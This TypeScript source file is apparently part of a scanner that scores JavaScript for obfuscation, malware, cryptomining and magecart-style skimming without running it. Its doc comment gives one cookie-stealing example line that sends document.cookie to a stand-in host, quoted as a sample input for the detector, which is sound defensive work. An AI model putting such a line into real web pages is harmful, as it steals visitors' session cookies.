import { type Evidence, isSufficient } from './evidence.ts';
import type { ScoreFamily } from './features/feature.ts';
import { scoresOf } from './score.ts';
import { type ReadLayer, scriptLayers } from './script-layers.ts';
import type { ScriptReason, ScriptVerdict } from './script-verdict.ts';

/**
 * Scores a script without running it. The same text always gives the same verdict.
 *
 *     classifyScript('new Image().src = "//x.test/?" + document.cookie').scores.integrity // 7
 */
export function classifyScript(source: string): ScriptVerdict {
  const reasons = new Reasons();
  for (const layer of scriptLayers(source)) {
    if (layer.kind === 'read') reasons.addAll(layer);
    else if (layer.depth === 0) return { kind: layer.kind, problem: layer.problem };
  }
  const scores = scoresOf(reasons.points(), isSufficient(reasons.evidence()));
  return { kind: 'scored', scores, reasons: reasons.list() };
}

/** Collects reasons. A feature counts once, also if hidden code has it again. */
class Reasons {
  readonly #found = new Map<string, ScriptReason>();
  readonly #evidence: (readonly Evidence[])[] = [];

  addAll({ depth, runAt, facts, positions, findings }: ReadLayer): void {
    for (const { family, feature, nodes } of findings) {
      const key = `${family}/${feature.id}`;
      if (this.#found.has(key)) continue;
      const { id, what, points, shows } = feature;
      this.#evidence.push(shows);
      const start = facts.reading.tree.node(nodes[0] ?? 0)?.start ?? 0;
      const position = runAt ?? positions.of(start);
      this.#found.set(key, { id, family, what, points, ...position, isInHiddenCode: depth > 0 });
    }
  }

  points(): Record<ScoreFamily, number> {
    const sums = { obfuscation: 0, dataflow: 0, malware: 0, cryptomining: 0, magecart: 0 };
    for (const { family, points } of this.#found.values()) sums[family] += points;
    return sums;
  }

  /** What each reason proves. */
  evidence(): readonly (readonly Evidence[])[] {
    return this.#evidence;
  }

  list(): ScriptReason[] {
    return [...this.#found.values()].sort((a, b) => b.points - a.points);
  }
}
